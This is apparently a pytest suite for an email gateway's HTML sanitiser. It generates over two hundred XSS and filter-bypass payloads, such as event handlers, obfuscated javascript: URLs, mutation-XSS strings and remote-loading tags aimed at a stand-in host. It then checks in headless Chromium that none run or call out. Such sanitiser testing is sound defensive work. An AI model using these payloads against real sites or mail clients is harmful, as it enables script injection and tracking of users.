"""Two hundred ways to smuggle active content through html: none leaves the sanitiser, and chromium runs and asks nothing."""

from __future__ import annotations

import asyncio
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from gateway.inbound.attachments import TypedAttachment
from gateway.inbound.mailboxes.posts import with_positions
from gateway.mail.parse import html
from gateway.mail.parse.fallback import parse_octets

CHROMIUM = shutil.which("chromium")
_LINKS = re.compile(r"(?:https?|mailto|tel|cid):", re.I)
_PLACED = re.compile(r"attachment:\d+")
_PICTURE = TypedAttachment(
    filename="p.png",
    content_type="image/png",
    sniffed="image/png",
    size=1,
    sha256="0" * 64,
    octets=b"p",
    content_id="p@example.org",
    inline=True,
)

_CODE = ["alert(1)", "top.ran=1"]
_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus autofocus",
    "ontoggle",
    "onbegin",
    "onanimationstart",
]
_TAGS = [
    "img src=x",
    "body",
    "svg",
    "video src=x",
    "details open",
    "input",
    "marquee",
    "p",
    "a href=#",
    "iframe",
    "math",
    "object",
]
_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "livescript:x",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:http://t.example/x!/y",
    "file:///etc/passwd",
    "blob:http://t.example/x",
    "javascript&colon;alert(1)",
    "javascript\u2028:alert(1)",
]
_URL_PLACES = ['<a href="{}">x</a>', '<img src="{}">', '<p style="background:url({})">x</p>', '<area href="{}">']
_WHOLE = [
    "<script>{}</script>",
    "<SCRIPT SRC=//t.example/x.js></SCRIPT>",
    "<scr<script>ipt>{}</script>",
    "<script\x00>{}</script>",
    "<script/x>{}</script>",
    "<<script>{}//<</script>",
    "<svg><script>{}</script></svg>",
    "<svg><script xlink:href=//t.example/x />",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<style>@import '//t.example';</style>",
    "<style>*{{background:url(//t.example)}}</style>",
    "<link rel=stylesheet href=//t.example>",
    "<link rel=prefetch href=//t.example>",
    "<meta http-equiv=refresh content='0;url=//t.example'>",
    "<base href=//t.example/>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data=//t.example></object>",
    "<embed src=//t.example>",
    "<applet code=x></applet>",
    "<form action=//t.example><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>",
    "<input type=image src=//t.example>",
    "<video poster=//t.example></video>",
    "<audio src=//t.example autoplay></audio>",
    "<picture><source srcset=//t.example></picture>",
    "<img srcset='//t.example 1x'>",
    "<img src=//t.example/p.gif>",
    "<img src='http://t.example/p.gif'>",
    "<img lowsrc=//t.example dynsrc=//t.example>",
    "<table background=//t.example><tr><td background=//t.example>x",
    "<body background=//t.example>",
    "<bgsound src=//t.example>",
    "<frameset><frame src=//t.example></frameset>",
    "<layer src=//t.example></layer>",
    "<xml id=x><i><b></b></i></xml>",
    "<?xml-stylesheet href=//t.example?>",
    "<!--><img src=x onerror={}>-->",
    "<!--[if IE]><script>{}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<title><img src=x onerror={}></title>",
    "<textarea><script>{}</script></textarea><script>{}</script>",
    "<xmp><img src=x onerror={}></xmp>",
    "<plaintext><script>{}</script>",
    "<template><script>{}</script></template>",
    "<svg><style><img src=x onerror={}>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:{} /></svg>",
    "<svg><use href='data:image/svg+xml,<svg/>#x'/></svg>",
    "<svg><foreignObject><script>{}</script></foreignObject></svg>",
    "<p style='width:expression({})'>x</p>",
    "<p style='-moz-binding:url(//t.example)'>x</p>",
    "<a href=x ping=//t.example>x</a>",
    "<a target=_blank href='http://ok.example/' onclick={}>x</a>",
    "<dialog open onclose={}>x</dialog>",
    "<img src=`x` onerror={}>",
    '<img """><script>{}</script>">',
    "<img src=x:x onerror={}//",
    "<p/onclick={}>x</p>",
    "<p\x0conclick={}>x</p>",
    "<isindex action=javascript:{}>",
    "<select><style></select><img src=x onerror={}></style>",
    "<ruby><rt><script>{}</script>",
    "<slot onslotchange={}>",
    "<portal src=//t.example>",
]


def payloads() -> list[str]:
    """At least two hundred, each its own."""
    made = [f"<{tag} {handler}={code}>x" for tag in _TAGS for handler, code in zip(_HANDLERS, _CODE * 4, strict=True)]
    made += [place.format(url) for place in _URL_PLACES for url in _URLS]
    made += [whole.format(*[code] * 2) for whole in _WHOLE for code in _CODE]
    return list(dict.fromkeys(made))


class Walk(HTMLParser):
    """Walks over html as it is stored and says what is not on the allow-list; only we name attachments by position."""

    def __init__(self, *, is_placed: bool) -> None:
        super().__init__()
        self.is_placed = is_placed
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in html._TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            allowed = html._ATTRIBUTES.get(tag, set()) | html._ATTRIBUTES["*"] | ({"rel"} if tag == "a" else set())
            if name not in allowed:
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src") and self.is_placed and _PLACED.fullmatch(value or ""):
                continue
            if name in ("href", "src") and not _LINKS.match(value or ""):
                self.found.append(f"{name}={value}")
            if name == "src" and not (value or "").lower().startswith("cid:"):
                self.found.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.found.append("an instruction")


def stored(payload: str) -> str:
    head = b"Content-Type: text/html; charset=utf-8\r\n\r\n"
    return parse_octets(head + b"<p>before</p>" + payload.encode() + b"<p>after</p>").html


def walk(text: str, *, is_placed: bool = False) -> list[str]:
    walker = Walk(is_placed=is_placed)
    walker.feed(text)
    walker.close()
    return walker.found


def test_there_are_two_hundred_payloads_and_the_walk_sees_them_all_unsanitised() -> None:
    assert len(payloads()) >= 200
    harmless = [payload for payload in payloads() if not walk(payload)]
    assert len(harmless) < 0.05 * len(payloads()), harmless


def test_no_active_content_is_stored() -> None:
    assert {payload: found for payload in payloads() if (found := walk(stored(payload)))} == {}


def test_pictures_named_by_their_position_bring_nothing_else_in() -> None:
    """What the mailboxes store: every payload around, in and beside the links that they rewrite."""
    places = ['<img src="cid:p@example.org">{}', '<img alt="{}" src="cid:p@example.org">', '<a href="cid:{}">x</a>']
    for payload in payloads():
        for place in [*places, '<img src="attachment:0">{}']:
            safe = stored(place.format(payload))
            placed = with_positions(safe, [_PICTURE])
            assert walk(safe) == [], payload
            assert walk(placed, is_placed=True) == [], payload
    assert 'src="attachment:0"' in with_positions(stored(places[0].format("x")), [_PICTURE])


def test_stored_html_is_a_fixed_point() -> None:
    """Sanitised once or twice is the same, so no second parser finds what the first did not see."""
    for payload in payloads():
        once = stored(payload)
        assert html.sanitise(once) == once, payload


@pytest.mark.skipif(
    CHROMIUM is None, reason="SKIPPED LOUDLY: chromium is not installed; nobody showed the html to a browser"
)
async def test_chromium_runs_nothing_and_asks_nothing(tmp_path: Path) -> None:
    """All payloads on one page: requests would arrive at our listener, a script would change the title."""
    asked: list[bytes] = []

    async def heard(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append(await reader.readline())
        writer.close()

    server = await asyncio.start_server(heard, "127.0.0.1", 0)
    async with server:
        host = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
        armed = [
            payload.replace("t.example", host)
            .replace("alert(1)", "document.title=1")
            .replace("top.ran=1", "document.title=2")
            for payload in payloads()
        ]
        safe = await _shown("".join(map(stored, armed)), tmp_path / "safe")
        assert "<title>untouched</title>" in safe
        assert not [line for line in asked if line.strip()]
        raw = await _shown(f"<img src=http://{host}/p.gif><script>document.title=3</script>", tmp_path / "raw")
        assert "<title>3</title>" in raw, "the browser runs no script at all, so the test says nothing"
        assert [line for line in asked if b"p.gif" in line], "the browser asks nobody, so the test says nothing"


async def _shown(body: str, folder: Path) -> str:
    """The page after chromium showed it."""
    folder.mkdir()
    page = folder / "page.html"
    page.write_text(f"<!doctype html><meta charset=utf-8><title>untouched</title>{body}")
    process = await asyncio.create_subprocess_exec(
        CHROMIUM or "",
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        f"--user-data-dir={folder / 'profile'}",
        "--virtual-time-budget=2000",
        "--dump-dom",
        page.as_uri(),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.DEVNULL,
    )
    async with asyncio.timeout(60):
        shown, _ = await process.communicate()
    return shown.decode("utf-8", "replace")


def test_the_styled_form_keeps_its_looks_and_loads_nothing() -> None:
    given = (
        '<table bgcolor="#eee" width="600" onclick="x()"><tr><td style="color:red;position:fixed;padding:3px;'
        'background:url(http://e.example/a);background:u\\72l(b)">'
        '<a href="http://e.example/">l</a><img src="cid:a"><img src="http://e.example/b"></td></tr></table>'
    )
    told = html.sanitise(given, styled=True)
    assert 'style="color:red;padding:3px"' in told
    assert '<table bgcolor="#eee" width="600">' in told
    assert 'target="_blank" rel="noopener noreferrer nofollow"' in told
    assert told.count("src=") == 1
    assert "style" not in html.sanitise(given)
